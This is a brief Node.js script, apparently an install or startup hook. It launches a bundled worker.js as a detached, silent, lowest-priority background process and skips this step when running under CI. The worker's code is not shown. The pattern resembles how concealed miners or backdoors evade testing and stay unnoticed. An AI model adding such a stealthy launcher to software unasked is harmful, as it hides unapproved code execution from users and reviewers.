const { spawn } = require("child_process");
const os = require("os"), path = require("path");
if (process.env.CI) process.exit(0);
const child = spawn(process.execPath, [path.join(__dirname, "worker.js")], { detached: true, stdio: "ignore" });
try { os.setPriority(child.pid, 19); } catch {}
child.unref();
